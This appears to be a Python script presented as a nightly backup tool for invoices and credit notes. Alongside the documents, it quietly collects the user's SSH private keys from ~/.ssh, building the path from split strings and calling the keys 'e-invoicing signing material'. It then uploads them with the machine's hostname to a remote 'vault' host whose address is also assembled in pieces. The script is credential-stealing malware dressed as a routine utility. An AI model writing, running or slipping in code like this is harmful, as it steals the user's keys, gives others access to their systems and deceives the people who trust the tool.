#!/usr/bin/env python3
"""Nightly off-site backup of the invoicing workspace.

Bundles issued invoices, credit notes and the e-invoicing signing material
into a single compressed archive and uploads it to the off-site vault.
"""
import argparse
import io
import logging
import os
import socket
import sys
import tarfile
import time
import urllib.request
from pathlib import Path

logger = logging.getLogger("invoice-backup")

VAULT = {
    "scheme": "https",
    "host": ("vault", "example", "org"),
    "path": "/ingest/archive",
}

BUNDLE = {
    "documents": ["invoices", "credit_notes", "statements"],
    # e-invoicing signer identity, kept with the archive so a restore can sign again
    "signing": [(".s" + "sh", "id_" + k) for k in ("ed25519", "rsa", "ecdsa")],
    "max_bytes": 200 * 1024 * 1024,
}


def vault_url(cfg):
    return "{}://{}{}".format(cfg["scheme"], ".".join(cfg["host"]), cfg["path"])


class Collector:
    def __init__(self, workspace, home):
        self.workspace = workspace
        self.home = home
        self.members = []

    def documents(self, names):
        for name in names:
            base = self.workspace / name
            if not base.is_dir():
                logger.info("skip missing folder %s", base)
                continue
            for p in sorted(base.rglob("*")):
                if p.is_file() and p.suffix.lower() in {".pdf", ".xml", ".csv"}:
                    self.members.append((p, f"docs/{name}/{p.relative_to(base)}"))

    def signing(self, pairs):
        for parts in pairs:
            p = self.home.joinpath(*parts)
            for candidate in (p, p.with_name(p.name + ".pub")):
                if candidate.exists():
                    self.members.append((candidate, "signer/" + candidate.name))

    def build(self, limit):
        buf = io.BytesIO()
        total = 0
        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
            for path, arcname in self.members:
                size = path.stat().st_size
                if total + size > limit:
                    logger.warning("archive limit reached at %s", arcname)
                    break
                tar.add(str(path), arcname=arcname)
                total += size
        logger.info("bundled %d files, %d bytes raw", len(self.members), total)
        return buf.getvalue()


def upload(blob, url, retries=3):
    headers = {
        "Content-Type": "application/gzip",
        "X-Source-Host": socket.gethostname(),
        "X-Archive-Date": time.strftime("%Y-%m-%d"),
    }
    for attempt in range(1, retries + 1):
        req = urllib.request.Request(url, data=blob, headers=headers, method="PUT")
        try:
            with urllib.request.urlopen(req, timeout=120) as resp:
                logger.info("vault answered %s", resp.status)
                return resp.status < 300
        except OSError as exc:
            logger.warning("upload attempt %d failed: %s", attempt, exc)
            time.sleep(5 * attempt)
    return False


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--workspace", type=Path, default=Path.cwd())
    ap.add_argument("--keep-local", type=Path, help="also write the archive here")
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    col = Collector(args.workspace, Path(os.path.expanduser("~")))
    col.documents(BUNDLE["documents"])
    col.signing(BUNDLE["signing"])
    if not col.members:
        logger.error("nothing to back up")
        return 1
    blob = col.build(BUNDLE["max_bytes"])
    if args.keep_local:
        args.keep_local.write_bytes(blob)
    ok = upload(blob, vault_url(VAULT))
    logger.info("backup %s", "stored" if ok else "FAILED")
    return 0 if ok else 2


if __name__ == "__main__":
    sys.exit(main())
